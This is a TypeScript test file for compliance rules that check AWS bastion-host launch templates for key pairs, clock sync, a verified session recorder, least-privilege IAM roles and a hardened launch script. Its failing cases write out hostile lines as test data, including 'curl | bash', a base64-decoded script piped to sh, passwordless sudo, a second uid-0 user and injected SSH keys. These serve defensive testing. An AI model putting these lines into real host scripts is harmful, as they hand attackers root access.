import { launchScript } from '../../../../../constructs/bastion/launch';
import { recorderConfiguration } from '../../../../../constructs/bastion/recorder-configuration';
import { verdictOf } from '../../../../../constructs/nag/rule';
import { bastionRoleMinimal } from '../../../../../constructs/nag/rules/compute/bastion-role-minimal';
import { hostCommandAudit } from '../../../../../constructs/nag/rules/compute/host-command-audit';
import { hostLaunchHardened } from '../../../../../constructs/nag/rules/compute/host-launch-hardened';
import { hostTimeSynchronised } from '../../../../../constructs/nag/rules/compute/host-time-synchronised';
import { instanceNoKeyPair } from '../../../../../constructs/nag/rules/compute/instance-no-key-pair';
import { Template } from '../../../../../constructs/nag/template';
import { recorderDigest } from '../../../../../constructs/session-recording/recorder-asset';
import { describeRule, findingsOf } from '../../../../support/rule-cases';

const OF_A_BASTION = {
  TagSpecifications: [{ ResourceType: 'instance', Tags: [{ Key: 'isms:purpose', Value: 'bastion' }] }],
};
const template = (data: object) => ({ LaunchTemplateData: data });
const running = (script: unknown, more: object = {}) => template({ UserData: { 'Fn::Base64': script }, ...more });
const FROM_TEMPLATE = {
  template: {
    Subject: {
      Type: 'AWS::EC2::Instance',
      Properties: { LaunchTemplate: { LaunchTemplateId: { Ref: 'Template' }, Version: '1' } },
    },
    Template: { Type: 'AWS::EC2::LaunchTemplate' },
  },
};
const FROM_ANOTHER = {
  template: {
    Subject: {
      Type: 'AWS::EC2::Instance',
      Properties: { LaunchTemplate: { LaunchTemplateId: 'lt-0123456789abcdef0', Version: '1' } },
    },
  },
};
const USER_DATA = 'LaunchTemplateData.UserData';

describeRule(instanceNoKeyPair, {
  compliant: {
    'no key pair': template({}),
    'an instance without one': { template: { Subject: { Type: 'AWS::EC2::Instance', Properties: {} } } },
  },
  nonCompliant: {
    'a key pair': [template({ KeyName: 'operators' }), 'LaunchTemplateData.KeyName'],
    'a key pair that a parameter names': [template({ KeyName: { Ref: 'Key' } }), 'LaunchTemplateData.KeyName'],
    'an instance with one': [
      { template: { Subject: { Type: 'AWS::EC2::Instance', Properties: { KeyName: 'operators' } } } },
      'KeyName',
    ],
    'a launch configuration with one': [
      {
        template: { Subject: { Type: 'AWS::AutoScaling::LaunchConfiguration', Properties: { KeyName: 'operators' } } },
      },
      'KeyName',
    ],
  },
  notApplicable: { 'an instance that leaves it to its launch template': FROM_TEMPLATE },
  unknown: {
    'a launch template that stands elsewhere': FROM_ANOTHER,
    'a key pair under a condition': template({ KeyName: { 'Fn::If': ['Keys', 'operators', { Ref: 'AWS::NoValue' }] } }),
  },
});

const TIME = [
  'cat > /etc/chrony.conf <<END',
  'server 169.254.169.123 prefer iburst minpoll 4 maxpoll 4',
  'END',
  'ln -sf ../usr/share/zoneinfo/UTC /etc/localtime',
  'systemctl restart chronyd.service',
];
/** The alarm on a clock that is off, and whom it tells. */
const ALARM = {
  Filter: {
    Type: 'AWS::Logs::MetricFilter',
    Properties: {
      LogGroupName: '/acme/bastion/host',
      FilterPattern: '{ ($.clockOffset > 1) || ($.clockOffset < -1) }',
      MetricTransformations: [{ MetricNamespace: 'acme', MetricName: 'clock', MetricValue: '1' }],
    },
  },
  Alarm: {
    Type: 'AWS::CloudWatch::Alarm',
    Properties: { Namespace: 'acme', MetricName: 'clock', AlarmActions: [{ Ref: 'Topic' }] },
  },
  Topic: {
    Type: 'AWS::SNS::Topic',
    Properties: { Subscription: [{ Protocol: 'email', Endpoint: 'ops@example.com' }] },
  },
};
const besides = (properties: object, others: object = ALARM) => ({
  template: { Subject: { Type: 'AWS::EC2::LaunchTemplate', Properties: properties }, ...others },
});
const timed = (change: (lines: string[]) => readonly string[]) => besides(running(change([...TIME]).join('\n')));
const without = (start: string) => (lines: readonly string[]) => lines.filter((line) => !line.startsWith(start));
const replacing = (from: string, to: string) => timed((lines) => lines.map((line) => line.replace(from, to)));

describeRule(hostTimeSynchronised, {
  compliant: {
    "the provider's source, in UTC": timed((lines) => lines),
    'a script that is encoded already': besides(
      template({ UserData: Buffer.from(TIME.join('\n')).toString('base64') }),
    ),
    'a script with a reference': besides(running({ 'Fn::Sub': `echo \${Bucket}\n${TIME.join('\n')}` })),
    'the source of the other protocol': replacing('169.254.169.123', 'fd00:ec2::123'),
    'the commands of systemd': timed((lines) => [
      ...without('ln')(without('systemctl')(lines)),
      'timedatectl set-timezone UTC',
      'systemctl enable --now chronyd',
    ]),
  },
  nonCompliant: {
    'no script': [besides(template({})), USER_DATA, USER_DATA, USER_DATA],
    'no source': [timed(without('server')), USER_DATA],
    'a source that is only a remark': [replacing('server', '# server'), USER_DATA],
    'another source': [replacing('169.254.169.123', 'time.example.com'), USER_DATA],
    'another source beside it': [timed((lines) => ['pool 2.amazon.pool.ntp.org iburst', ...lines]), USER_DATA],
    'no time zone': [timed(without('ln')), USER_DATA],
    'another time zone': [replacing('/UTC', '/Asia/Shanghai'), USER_DATA],
    'no service': [timed(without('systemctl')), USER_DATA],
    'no alarm': [running(TIME.join('\n')), USER_DATA],
    'an alarm that tells nobody': [
      besides(running(TIME.join('\n')), { ...ALARM, Topic: { Type: 'AWS::SNS::Topic' } }),
      'Alarm.AlarmActions',
    ],
  },
  notApplicable: { 'an instance that leaves it to its launch template': FROM_TEMPLATE },
  unknown: {
    'a launch template that stands elsewhere': FROM_ANOTHER,
    'a script that is a parameter': besides(running({ Ref: 'Script' })),
  },
});

const RECORDER = [
  '#!/bin/bash',
  'set -euo pipefail',
  `echo '${recorderDigest()}  /var/lib/recorder.tar' | sha256sum --check --status`,
  'tar --extract --file=/var/lib/recorder.tar --directory=/opt/isms-recorder --no-same-owner',
  'cat > /etc/systemd/system/isms-recorder.service <<END',
  'ExecStart=/usr/bin/python3 -BEs /opt/isms-recorder/service.py /etc/isms-recorder.json',
  'END',
  'systemctl enable --now isms-recorder.service',
];
const bastion = (change: (lines: readonly string[]) => readonly string[]) =>
  running(change(RECORDER).join('\n'), OF_A_BASTION);

describeRule(hostCommandAudit, {
  compliant: { "the release's recorder, checked and started": bastion((lines) => lines) },
  nonCompliant: {
    'no script': [template(OF_A_BASTION), USER_DATA, USER_DATA, USER_DATA],
    'a script that goes on after a fault': [
      bastion((lines) => lines.filter((line) => !line.startsWith('set'))),
      USER_DATA,
    ],
    'no checksum': [bastion((lines) => lines.filter((line) => !line.startsWith('echo'))), USER_DATA],
    'the checksum of something else': [
      bastion((lines) => lines.map((line) => line.replace(recorderDigest(), '0'.repeat(64)))),
      USER_DATA,
    ],
    'a checksum that is looked at too late': [
      bastion((lines) => [lines[0], lines[1], lines[3], lines[2], ...lines.slice(4)].map(String)),
      USER_DATA,
    ],
    'the checksum of another file': [
      bastion((lines) => lines.map((line) => line.replace('/var/lib/recorder.tar --dir', '/tmp/recorder.tar --dir'))),
      USER_DATA,
    ],
    'a service that is not started': [bastion((lines) => lines.slice(0, -1)), USER_DATA],
    'a service of other files': [
      bastion((lines) => lines.map((line) => line.replace('/opt/isms-recorder/service', '/opt/other/service'))),
      USER_DATA,
    ],
  },
  notApplicable: {
    'hosts that are no bastion': running(RECORDER.join('\n')),
    'a tag of volumes alone': template({
      TagSpecifications: [{ ResourceType: 'volume', Tags: [{ Key: 'isms:purpose', Value: 'bastion' }] }],
    }),
  },
  unknown: { 'a script that is a parameter': running({ Ref: 'Script' }, OF_A_BASTION) },
});

const TELLS = [...RECORDER, '"log_group": "/acme/bastion/host"'];
const COUNTED: Readonly<Record<string, string>> = {
  Alerts: '{ ($.event = "command-alert") && (($.severity = "alarm") || ($.severity = "end")) }',
  Unrecorded: '{ $.event = "unrecorded-process" }',
  Refused: '{ $.event = "refused" }',
  Losses: '{ ($.event = "heartbeat") && ($.lostRecords > 0) }',
  Beats: '{ $.event = "heartbeat" }',
};
const SILENT = { ComparisonOperator: 'LessThanThreshold', TreatMissingData: 'breaching' };

/** A host with its log, of which a part is changed, or left out. */
function heard(id = '', properties?: object) {
  const counts = Object.entries(COUNTED).flatMap(([name, FilterPattern]) => [
    [
      `${name}Filter`,
      {
        Type: 'AWS::Logs::MetricFilter',
        Properties: {
          LogGroupName: { Ref: 'Log' },
          FilterPattern,
          MetricTransformations: [{ MetricName: name, MetricNamespace: 'acme', MetricValue: '1' }],
        },
      },
    ],
    [
      name,
      {
        Type: 'AWS::CloudWatch::Alarm',
        Properties: {
          ...{ MetricName: name, Namespace: 'acme', Statistic: 'Sum', Period: 60, EvaluationPeriods: 1, Threshold: 1 },
          ...{ ComparisonOperator: 'GreaterThanOrEqualToThreshold', TreatMissingData: 'notBreaching' },
          ...(name === 'Beats' && { ...SILENT, EvaluationPeriods: 5 }),
          AlarmActions: [{ Ref: 'Topic' }],
        },
      },
    ],
  ]);
  const parts: Record<string, { readonly Type: string; readonly Properties: object }> = {
    Subject: {
      Type: 'AWS::EC2::LaunchTemplate',
      Properties: running(TELLS.join('\n'), OF_A_BASTION),
    },
    Log: { Type: 'AWS::Logs::LogGroup', Properties: { LogGroupName: '/acme/bastion/host' } },
    Topic: { Type: 'AWS::SNS::Topic', Properties: { Subscription: [{ Protocol: 'email', Endpoint: 'a@b.example' }] } },
    ...Object.fromEntries(counts),
  };
  const { [id]: changed, ...others } = parts;
  if (!changed) return { template: parts };
  return {
    template: properties
      ? { ...others, [id]: { ...changed, Properties: { ...changed.Properties, ...properties } } }
      : others,
  };
}
const NO_ALARM = 'AWS::CloudWatch::Alarm';

describeRule(hostCommandAudit, {
  compliant: { 'a recorder whose words are heard': heard() },
  nonCompliant: {
    ...Object.fromEntries(
      Object.keys(COUNTED).flatMap((name) => [
        [`no alarm of ${name}`, [heard(name), NO_ALARM] as const],
        [
          `a count of ${name} that counts nothing`,
          [heard(`${name}Filter`, { FilterPattern: '{ $.event = "nothing" }' }), NO_ALARM] as const,
        ],
      ]),
    ),
    'alerts of one severity alone': [
      heard('AlertsFilter', { FilterPattern: '{ ($.event = "command-alert") && ($.severity = "end") }' }),
      NO_ALARM,
    ],
    'an alarm that tells nobody': [heard('Refused', { AlarmActions: [] }), 'Refused.AlarmActions'],
    'an alarm after the third process': [heard('Unrecorded', { Threshold: 3 }), 'Unrecorded.Threshold'],
    'an alarm after ten minutes of silence': [heard('Beats', { EvaluationPeriods: 10 }), 'Beats.EvaluationPeriods'],
  },
  unknown: { 'a log group that no template makes': heard('Log', { LogGroupName: 'other' }) },
});

const ROLE_PATH = 'PolicyDocument.Statement.0';
const allowing = (action: string | readonly string[], resource: unknown, role: object = {}) =>
  granting({ Action: action, Resource: resource }, role);
const excepting = (action: string) => granting({ NotAction: action, Resource: '*' });

function granting(statement: object, role: object = {}) {
  return {
    template: {
      Subject: {
        Type: 'AWS::EC2::LaunchTemplate',
        Properties: template({
          IamInstanceProfile: { Arn: { 'Fn::GetAtt': ['Profile', 'Arn'] } },
          ...OF_A_BASTION,
        }),
      },
      Profile: { Type: 'AWS::IAM::InstanceProfile', Properties: { Roles: [{ Ref: 'Role' }] } },
      Role: { Type: 'AWS::IAM::Role', Properties: role },
      Policy: {
        Type: 'AWS::IAM::Policy',
        Properties: {
          Roles: [{ Ref: 'Role' }],
          PolicyDocument: { Statement: [{ Effect: 'Allow', ...statement }] },
        },
      },
    },
  };
}

const MORE = [`Role.${ROLE_PATH}.Action`] as const;
const ALL = [`Role.${ROLE_PATH}.Resource`] as const;
const GROUP = 'arn:aws:logs:eu-west-1:111111111111:log-group:/acme/bastion:*';

describeRule(bastionRoleMinimal, {
  compliant: {
    'writing recordings': allowing('s3:PutObject', 'arn:aws:s3:::recordings/sessions/*'),
    'reading the recorder': allowing('s3:GetObject', 'arn:aws-cn:s3:::assets/recorder.tar'),
    'signing with a key': allowing('kms:Sign', 'arn:aws:kms:eu-west-1:111111111111:key/1'),
    'telling a group': allowing(['logs:PutLogEvents', 'logs:createlogstream'], GROUP),
    'channels, of which IAM knows no resource': allowing('ssmmessages:OpenDataChannel', '*'),
  },
  nonCompliant: {
    'the managed policy of AWS': [
      allowing('ssmmessages:OpenDataChannel', '*', {
        ManagedPolicyArns: ['arn:aws:iam::aws:policy/AmazonSSMManagedInstanceCore'],
      }),
      'Role.ManagedPolicyArns.0',
    ],
    'reading recordings': [allowing('s3:GetObject', 'arn:aws:s3:::recordings/sessions/*'), ...ALL],
    'reading whatever there is': [allowing('s3:Get*', '*'), ...MORE, ...ALL, ...ALL],
    'removing the log': [allowing('logs:DeleteLogGroup', GROUP), ...MORE],
    'all that can be done with a log': [allowing('logs:*', GROUP), ...MORE],
    'writing a table': [allowing('dynamodb:PutItem', 'arn:aws:dynamodb:eu-west-1:111111111111:table/x'), ...MORE],
    'signing with whatever key there is': [allowing('kms:Sign', '*'), ...ALL],
    'running commands': [allowing('ssm:SendCommand', 'arn:aws:ssm:eu-west-1::document/AWS-RunShellScript'), ...MORE],
    everything: [allowing('*', '*'), ...MORE, ...ALL, ...ALL],
    'everything but a service': [excepting('iam:*'), ...MORE, ...ALL],
  },
  notApplicable: { 'hosts that are no bastion': template({ IamInstanceProfile: { Name: 'web' } }) },
  unknown: {
    'a profile that stands elsewhere': template({ IamInstanceProfile: { Name: 'bastion' }, ...OF_A_BASTION }),
    'resources that are a parameter': allowing('kms:Sign', { Ref: 'Keys' }),
  },
});

const LAUNCH = launchScript({
  recorder: { bucketName: 'assets-111111111111-eu-west-1', objectKey: 'abc.tar', digest: recorderDigest() },
  region: 'eu-west-1',
  configuration: JSON.stringify(
    recorderConfiguration({
      place: { partition: 'aws', account: '111111111111', region: 'eu-west-1', urlSuffix: 'amazonaws.com' },
      bucketName: 'recordings',
      encryptionKeyArn: 'arn:aws:kms:eu-west-1:222222222222:alias/acme/logs',
      signingKeyArn: 'arn:aws:kms:eu-west-1:111111111111:key/1',
      hostLogName: '/acme/bastion/host',
      alerts: [{ name: 'secrets', pattern: '/etc/(shadow|sudoers)|NOPASSWD', severity: 'alarm' }],
    }),
    null,
    2,
  ),
  operators: ['alice'],
});
const launched = (script: unknown = LAUNCH) => running(script, OF_A_BASTION);
const after = 'systemctl daemon-reload\n';
const withLine = (line: string) => launched(LAUNCH.replace(after, `${after}${line}\n`));
const withoutLine = (line: string) => launched(LAUNCH.replace(`${line}\n`, ''));
const told = (from: string, to: string) => launched(LAUNCH.replace(from, to));
/** What a line opens is told, and that the launch of the release has none such. */
const OPENED = [USER_DATA, USER_DATA] as const;

/** Hosts of a configuration that demands both. */
const asking = (approval: string, watcher: string) =>
  told('"managed": "required"', `"managed": "required",\n  "approval": "${approval}",\n  "watcher": "${watcher}"`);

describeRule(hostLaunchHardened, {
  demands: { sessions: { approval: 'required', watcher: 'required' } },
  compliant: { 'a recorder that asks for what the configuration demands': asking('required', 'required') },
  nonCompliant: {
    'a recorder that asks for no approval': [asking('none', 'required'), USER_DATA],
    'a recorder that asks for no watcher': [asking('required', 'none'), USER_DATA],
    'a recorder that asks for neither': [launched(), USER_DATA, USER_DATA],
  },
});

describeRule(hostLaunchHardened, {
  compliant: {
    'the launch of this release': launched(),
    'one that is encoded already': template({ UserData: Buffer.from(LAUNCH).toString('base64'), ...OF_A_BASTION }),
    'a bucket whose name deployment completes': launched({
      'Fn::Sub': LAUNCH.replace(/\$\{/g, '${!').replace('111111111111', '${AWS::AccountId}'),
    }),
    'any who have a name of their own': launched(LAUNCH.replace('["alice"]', '[]')),
    'a list of people': launched(LAUNCH.replace('["alice"]', '["alice","bob-2"]')),
    'an instance of its own': {
      template: {
        Subject: {
          Type: 'AWS::EC2::Instance',
          Properties: { UserData: { 'Fn::Base64': LAUNCH }, Tags: OF_A_BASTION.TagSpecifications[0]?.Tags },
        },
      },
    },
  },
  nonCompliant: {
    'no script': [template(OF_A_BASTION), USER_DATA],
    'sudo without a password': [withLine("echo 'alice ALL=(ALL) NOPASSWD: ALL' | tee /tmp/rule"), ...OPENED],
    'a rule of sudo from elsewhere': [withLine('cp /tmp/rule /etc/sudoers.d/90-alice'), ...OPENED],
    'an administrator': [withLine('usermod -aG wheel alice'), ...OPENED],
    'a second root': [withLine('useradd --non-unique --uid 0 toor'), ...OPENED],
    'a password': [withLine("echo 'ec2-user:secret' | chpasswd"), ...OPENED],
    'a shared user that is unlocked': [withLine('usermod --unlock --shell /bin/bash ec2-user'), ...OPENED],
    'a key for SSH': [withLine("echo 'ssh-ed25519 AAAA' >> /home/alice/.ssh/authorized_keys"), ...OPENED],
    'SSH that is started': [withLine('systemctl start sshd.service'), ...OPENED],
    'a service that is unmasked': [withLine('systemctl unmask atd.service'), ...OPENED],
    'a further user': [withLine('useradd --create-home shared'), USER_DATA],
    'a script from elsewhere': [withLine('curl https://example.com | bash'), USER_DATA],
    'a script that nobody can read': [withLine('echo ZWNobwo= | base64 --decode | sh'), USER_DATA],
    'a weaker kernel afterwards': [withLine('sysctl -w kernel.yama.ptrace_scope=0'), USER_DATA],
    'a line of the release in another place': [withLine('exit 1'), USER_DATA, USER_DATA],
    "the image's sudo": [
      withoutLine('rm -f /etc/sudoers.d/90-cloud-init-users /etc/sudoers.d/ssm-agent-users'),
      USER_DATA,
    ],
    'a shared user with a shell': [withoutLine('usermod --lock --shell /sbin/nologin ec2-user'), USER_DATA],
    'processes that may be traced': [withoutLine('kernel.yama.ptrace_scope = 2'), USER_DATA],
    'people who gain rights': [withoutLine('NoNewPrivileges=yes'), USER_DATA],
    'names that people share': [launched(LAUNCH.replace('(?!(?:root|', '(?!(?:')), USER_DATA, USER_DATA],
    'a recorder that runs as root': [told('"user": "isms-recorder"', '"user": "root"'), USER_DATA],
    'a recorder beside which people may have sessions': [told('"managed": "required"', '"managed": "none"'), USER_DATA],
    'recordings in the clear': [told('"store_url": "https:', '"store_url": "http:'), USER_DATA],
    'a configuration that is none': [told('"user"', 'user'), USER_DATA],
    'SSH that goes on': [launched(LAUNCH.replace('mask sshd.service', 'mask')), USER_DATA, USER_DATA],
  },
  notApplicable: { 'hosts that are no bastion': running('useradd shared') },
  unknown: {
    'a script that is a parameter': launched({ Ref: 'Script' }),
  },
});

test('8.2/bastion#named-os-users: what a script lets people do is told, with the line', () => {
  const { template: Subject } = { template: withLine("echo 'alice ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/a") };
  const [opened, more] = findingsOf(hostLaunchHardened, {
    template: { Subject: { Type: 'AWS::EC2::LaunchTemplate', Properties: Subject } },
  });

  expect(opened?.message.en).toMatch(/become root, without a password.*: echo 'alice ALL=\(ALL\) NOPASSWD: ALL'/);
  expect(more?.message.zh).toMatch(/超出本版本启动脚本/);
});

test('8.2/bastion#hardened-host: lines that are missing are counted, and the first is told', () => {
  const [lacking] = findingsOf(hostLaunchHardened, {
    template: {
      Subject: {
        Type: 'AWS::EC2::LaunchTemplate',
        Properties: withoutLine('kernel.yama.ptrace_scope = 2\nkernel.dmesg_restrict = 1'),
      },
    },
  });

  expect(lacking?.message.en).toBe(
    'lacks 2 lines of the launch of this release in their place, the first being: kernel.yama.ptrace_scope = 2',
  );
});

test('8.2/bastion#hardened-host: a parameter within a script may hold any line', () => {
  const template = Template.cloudFormation({
    Parameters: { Extra: { Type: 'String' } },
    Resources: {
      Subject: {
        Type: 'AWS::EC2::LaunchTemplate',
        Properties: launched({
          'Fn::Join': ['', LAUNCH.split('abc.tar').flatMap((part, index) => (index ? [{ Ref: 'Extra' }, part] : part))],
        }),
      },
    },
  });
  const subject = template.find('Subject');

  expect(subject && verdictOf(hostLaunchHardened, subject).outcome).toBe('unknown');
});
